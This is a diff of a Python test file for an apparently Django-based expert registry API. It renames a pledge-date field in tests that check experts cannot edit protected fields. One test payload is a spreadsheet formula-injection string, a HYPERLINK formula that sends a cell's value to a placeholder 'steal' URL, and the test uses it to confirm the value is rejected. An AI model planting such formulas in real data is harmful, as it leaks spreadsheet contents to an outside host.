@@ -156,7 +156,7 @@ def test_only_the_prefecture_that_started_a_joint_run_cancels_or_retries_it(coor
 
 @pytest.mark.parametrize("payload", [
     {"affiliations": []},
-    {"pledge_signed_on": "2020-01-01"},
+    {"pool_pledge_signed_on": "2020-01-01"},
     {"listed": False},
     {"max_engagements": 20},
     {"name": "=HYPERLINK(\"http://x/steal?\"&A1)"},
@@ -166,13 +166,13 @@ def test_an_expert_cannot_patch_fields_that_are_not_theirs(payload):
     expert = ExpertFactory(registering_prefecture_id=NAGANO, max_engagements=3)
     AffiliationFactory(expert=expert)
     user = ExpertUserFactory(expert=expert)
-    before = (expert.name, expert.max_engagements, expert.listed, expert.pledge_signed_on)
+    before = (expert.name, expert.max_engagements, expert.listed, expert.pool_pledge_signed_on)
     response = client_for(user).patch(f"/api/v1/experts/{expert.pk}/", payload, format="json")
     assert response.status_code == 400, response.content
     (error,) = response.json()["errors"]
     assert error["field"] == next(iter(payload)) and error["code"] == "not_yours"
     expert.refresh_from_db()
-    assert (expert.name, expert.max_engagements, expert.listed, expert.pledge_signed_on) == before
+    assert (expert.name, expert.max_engagements, expert.listed, expert.pool_pledge_signed_on) == before
     assert Affiliation.objects.filter(expert=expert).count() == 1
 
 
@@ -194,7 +194,7 @@ def test_an_expert_signs_the_pledge_through_its_own_flow_dated_today():
     response = client_for(user).post(f"/api/v1/experts/{expert.pk}/pledge/")
     assert response.status_code == 200, response.content
     expert.refresh_from_db()
-    assert expert.pledge_signed_on == timezone.localdate()
+    assert expert.pool_pledge_signed_on == timezone.localdate()
     other = ExpertFactory(registering_prefecture_id=NAGANO)
     assert client_for(user).post(f"/api/v1/experts/{other.pk}/pledge/").status_code == 404
 
